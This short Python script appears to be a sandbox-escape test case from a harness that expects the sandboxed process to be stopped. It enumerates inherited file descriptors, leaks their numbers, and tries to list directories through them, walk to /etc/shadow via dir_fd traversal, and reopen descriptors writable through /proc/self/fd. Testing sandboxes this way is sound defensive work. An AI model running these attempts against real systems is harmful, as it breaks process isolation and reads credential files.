# attack: {"tries": "walks out through inherited descriptors and reopens its own", "outcomes": ["exited"]}
def inherited():
    return [descriptor for descriptor in range(3, 1024) if exists(descriptor)]
def exists(descriptor):
    try:
        os.fstat(descriptor)
        return True
    except OSError:
        return False
found = inherited()
if found:
    leak(f"descriptors {found}")
for descriptor in (0, 1, 2, *found):
    attempt(f"listed through {descriptor}", lambda: os.listdir(descriptor))
    attempt(f"walked through {descriptor}", lambda: os.open("../../../../etc/shadow", os.O_RDONLY, dir_fd=descriptor))
    attempt(f"reopened {descriptor}", lambda: descriptor > 2 and os.open(f"/proc/self/fd/{descriptor}", os.O_RDWR))
done()
